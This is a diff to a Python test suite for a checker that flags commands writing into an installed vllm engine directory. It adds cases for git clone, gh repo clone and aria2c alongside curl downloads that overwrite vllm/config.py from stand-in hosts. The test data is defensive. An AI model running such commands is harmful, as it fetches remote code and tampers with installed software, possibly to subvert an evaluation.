@@ -625,9 +625,12 @@ def test_pip_run_from_python_to_install_the_harness_is_allowed(check):
         "curl -fsSLo /usr/local/lib/python3.12/dist-packages/vllm/config.py https://example.com/c",
         "curl -fsSL --output /usr/local/lib/python3.12/dist-packages/vllm/config.py https://x.io/c",
         "curl -fsSL -o/usr/local/lib/python3.12/dist-packages/vllm/config.py https://x.io/c",
+        "git -C /usr/local/lib/python3.12/dist-packages clone https://github.com/x/vllm vllm_x",
+        "gh repo clone x/vllm /usr/local/lib/python3.12/dist-packages/vllm_x",
+        "aria2c -d /usr/local/lib/python3.12/dist-packages/vllm/v1 -o config.py https://x.io/c",
     ],
     ids=["tar-C", "tar-directory", "unzip-d", "git-clone", "curl-sLo", "curl-output",
-         "curl-o-joined"],
+         "curl-o-joined", "git-C-clone", "gh-repo-clone", "aria2c"],
 )  # fmt: skip
 def test_archives_clones_and_downloads_written_into_the_engine_are_patching(check, command):
     result = _engine_check(check, command)
